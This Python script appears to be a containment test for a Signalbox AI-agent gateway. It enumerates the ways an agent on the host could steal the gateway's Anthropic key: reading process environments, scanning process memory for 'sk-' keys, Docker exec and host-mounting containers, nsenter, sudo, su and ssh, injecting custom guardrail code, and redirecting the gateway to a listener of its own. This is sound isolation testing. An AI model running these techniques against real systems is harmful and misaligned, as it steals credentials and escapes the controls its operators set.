"""Ways in which an agent may try to get a provider's key: run on the host as its user, by this program.

    python3 - OWNER < agent_tries.py

OWNER is the gateway's user. Prints a JSON object: what each try printed. Standard library only; it knows no secret.
"""

import functools
import glob
import http.server
import json
import os
import pwd
import re
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request

NAME = "ANTHROPIC_DIRECT_KEY"
MODEL = "claude-sonnet-4-6"
MOST = 64 << 20  # bytes read of one mapping of another process


class Tries:
    """Each method is a try; its docstring says what the agent does."""

    def __init__(self, owner):
        user = pwd.getpwnam(owner)
        self.owner, self.home, self.run = owner, user.pw_dir, f"/run/user/{user.pw_uid}"
        self.kept = f"{self.home}/.config/signalbox/gateway/secrets/{NAME}.cred"
        # One directory for each container of this run of the unit.
        self.in_memory = " ".join(f"{self.run}/litellm/{number}/secrets/{NAME}" for number in range(1, 30))
        self.docker = f"docker -H unix://{self.run}/docker.sock"
        self.container = f"$({self.docker} ps -q --filter label=signalbox=gateway)"

    def read_file(self):
        """reads the file that the deploy placed"""
        return sh(f"cat {self.kept} {self.kept[:-5]}.key")

    def decrypt_file(self):
        """decrypts that file with systemd-creds"""
        return sh(f"systemd-creds --user decrypt --name={NAME} {self.kept} -")

    def decrypt_as_owner(self):
        """asks systemd to decrypt that file for the gateway's user"""
        return sh(f"systemd-creds decrypt --uid={self.owner} --name={NAME} {self.kept} -")

    def read_memory_file(self):
        """reads what the gateway's start decrypted into memory-backed storage"""
        return sh(f"cat {self.in_memory}")

    def docker_exec(self):
        """runs a program inside the gateway's container"""
        return sh(f"{self.docker} exec {self.container} cat /run/secrets/{NAME}")

    def docker_copy(self):
        """copies the file out of the gateway's container"""
        return sh(f"{self.docker} cp {self.container}:/run/secrets/{NAME} -")

    def docker_inspect(self):
        """asks Docker how the container was started, and for its log"""
        return sh(f"{self.docker} inspect {self.container}; {self.docker} logs {self.container}")

    def container_with_host(self):
        """mounts the host into a container of its own, where it is root"""
        libraries = " ".join(glob.glob("/lib*/*/libc.so.6") + glob.glob("/lib64/ld-linux*") + ["/bin/cat"])
        libraries = libraries.replace(" /", " ").lstrip("/")
        paths = " ".join(f"/host{path}" for path in self.in_memory.split())
        return sh(
            "export DOCKER_HOST=unix://$XDG_RUNTIME_DIR/docker.sock;"
            f" tar -C / -ch {libraries} | docker import - tries >/dev/null"
            f" && docker run --rm -v /:/host tries /bin/cat {paths}; docker image rm tries >/dev/null"
        )

    def environments(self):
        """reads the environments of all processes"""
        return "\n".join(each for path in glob.glob("/proc/[0-9]*/environ") for each in [read(path)] if NAME in each)

    def roots(self):
        """looks for the file through the root directories of all processes, and from within their namespaces"""
        # A container's root is a FUSE mount of another user namespace, hidden from whoever is outside of that.
        enter = f"nsenter -t $p -U -m --preserve-credentials cat /run/secrets/{NAME}"
        within = sh(f"for p in $(pgrep -u {self.owner}); do {enter}; done")
        return "\n".join([within, *(read(f"{path}/run/secrets/{NAME}") for path in glob.glob("/proc/[0-9]*/root"))])

    def memory(self):
        """searches the memory of all processes of others"""
        return "\n".join(search(int(path[6:-5])) for path in glob.glob("/proc/[0-9]*/maps"))

    def unit_as_owner(self):
        """has the gateway's user manager run a command"""
        return sh(f"systemd-run --user --machine={self.owner}@.host --quiet --wait --pipe cat {self.in_memory}")

    def sudo(self):
        """uses sudo, su and runuser"""
        read = f"cat {self.in_memory}"
        return sh(f"sudo -n -u {self.owner} {read}; sudo -n {read}; su {self.owner} -c '{read}'; runuser -u {read}")

    def ssh_as_owner(self):
        """logs in as the gateway's user"""
        return sh(f"ssh -o BatchMode=yes -o StrictHostKeyChecking=no {self.owner}@127.0.0.1 cat {self.in_memory}")

    def journal(self):
        """reads the journal, and what Signalbox has kept"""
        return sh("journalctl --no-pager -o cat | tail -c 2000000; cat /var/lib/signalbox/*/*")

    def everything_readable(self):
        """searches all files that it can read for the name"""
        places = "/etc /home /opt /run /srv /tmp /usr/local /var"
        return sh(f"grep -rshE '(^|[^#A-Z_]){NAME}[\"=: ]' {places} --exclude-dir=docker --exclude-dir=claude-code-*")

    def gateway_administration(self):
        """asks the gateway, whose key it has, for its configuration, and has it run code"""
        code = f"def apply_guardrail(inputs, request_data, input_type):\n    return block(os.environ['{NAME}'])\n"
        stdio = {"server_name": "x", "transport": "stdio", "command": "cat", "args": [f"/run/secrets/{NAME}"]}
        return "\n".join(
            [
                *(ask(path) for path in ("/model/info", "/v1/model/info", "/config/yaml", "/get/config/callbacks")),
                ask("/guardrails/test_custom_code", {"custom_code": code, "test_input": {"texts": ["x"]}}),
                ask("/mcp-rest/test/tools/list", stdio),
                ask("/utils/transform_request", {"call_type": "completion", "request_body": question()}),
            ]
        )

    def gateway_sends_it_here(self):
        """has the gateway ask a server of the agent's own, with the provider's key"""
        with Listener() as here:
            reference = {"api_base": here.url, "api_key": f"os.environ/{NAME}"}
            own = {"model_list": [{"model_name": "x", "litellm_params": {"model": "openai/x", **reference}}]}
            bodies = [
                {"api_base": here.url}, {"base_url": here.url}, {"extra_body": {"api_base": here.url}},
                {"litellm_metadata": {"api_base": here.url}}, reference, {"user_config": own, "model": "x"},
                {"fallbacks": [{"model": "openai/x", **reference}], "model": "none"},
            ]  # fmt: skip
            for body in bodies:
                for path in ("/v1/messages", "/v1/chat/completions", "/v1/responses"):
                    here.seen.append(ask(path, {**question(), **body}))
            here.seen.append(ask("/health/test_connection", {"litellm_params": {"model": "openai/x", **reference}}))
            return "\n".join(here.seen)

    def supervisor_socket(self):
        """talks to the gateway's supervisor over its control socket"""
        with socket.socket(socket.AF_UNIX) as each:
            each.settimeout(60)
            each.connect(f"{self.run}/litellm/control")
            return each.makefile().read()

    def container_port(self):
        """asks the gateway's container at its own port, past the supervisor"""
        code = f"def apply_guardrail(inputs, request_data, input_type):\n    return block(os.environ['{NAME}'])\n"
        asked = {"custom_code": code, "test_input": {"texts": ["x"]}}
        told = []
        for port in range(24000, 24100):
            told += [ask("/v1/models", port=port), ask("/guardrails/test_custom_code", asked, port=port)]
        return "\n".join(told)


def sh(command):
    """Return all that a shell command prints."""
    done = subprocess.run(["sh", "-c", command], cwd="/", stdin=subprocess.DEVNULL, capture_output=True, timeout=120)
    return (done.stdout + done.stderr).decode(errors="replace")


def read(path):
    """Return what is at a path, or why not."""
    try:
        with open(path, errors="replace") as file:
            return file.read(1 << 20)
    except OSError as error:
        return str(error.strerror)


def search(pid):
    """Return what looks like a provider's key in the memory of a process; "" where nothing may be read."""
    if pid in (os.getpid(), os.getppid()):
        return ""
    found = set()
    try:
        with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
            for line in maps:
                span, mode = line.split()[:2]
                start, end = (int(word, 16) for word in span.split("-"))
                if mode.startswith("rw"):
                    try:
                        memory.seek(start)
                        found |= set(re.findall(rb"sk-[\w-]{20,}", memory.read(min(end - start, MOST))))
                    except (OSError, ValueError, OverflowError):
                        continue
    except OSError:
        return ""
    return " ".join(each.decode() for each in found)


@functools.cache
def key():
    """Return the gateway's key, which the agent has."""
    path = os.path.expanduser("~/.config/signalbox/gateway.cred")
    return sh(f"systemd-creds --user decrypt --name=gateway {path} -").strip()


def question():
    """Return a request that any gateway would answer."""
    return {"model": MODEL, "max_tokens": 5, "input": "hi", "messages": [{"role": "user", "content": "hi"}]}


def ask(path, body=None, port=4000):
    """Return the gateway's answer."""
    headers = {"authorization": f"Bearer {key()}", "content-type": "application/json"}
    request = urllib.request.Request(
        f"http://127.0.0.1:{port}{path}", None if body is None else json.dumps(body).encode(), headers
    )
    try:
        with urllib.request.urlopen(request, timeout=30) as answer:  # noqa: S310 (http)
            return answer.read().decode(errors="replace")
    except urllib.error.HTTPError as error:
        return f"{error.code} {error.read().decode(errors='replace')}"
    except OSError as error:
        return str(error)


class Listener:
    """A server of the agent's own, which the gateway's container reaches; `seen`: all that it was sent."""

    def __enter__(self):
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_POST(self):
                seen.append(f"{self.path} {self.headers}")
                self.send_error(500)

            do_GET = do_POST  # noqa: N815 (the base class wants it)

            def log_message(self, *_):
                pass

        self._server = http.server.ThreadingHTTPServer(("0.0.0.0", 0), Handler)  # noqa: S104 (the container must reach it)
        threading.Thread(target=self._server.serve_forever, daemon=True).start()
        self.url = f"http://{sh('hostname -I').split()[0]}:{self._server.server_address[1]}"
        return self

    def __exit__(self, *_):
        self._server.shutdown()


def main():
    """Try all, or those that are named, and tell."""
    tries = Tries(sys.argv[1])
    names = sys.argv[2:] or [name for name in vars(Tries) if not name.startswith("_")]
    told = {}
    for name in names:
        began = time.monotonic()
        try:
            text = getattr(tries, name)()
        except Exception as error:  # a try that fails is a try
            text = repr(error)
        told[name] = {
            "does": getattr(Tries, name).__doc__,
            "text": text,
            "seconds": round(time.monotonic() - began, 1),
        }
    print(json.dumps(told))


main()
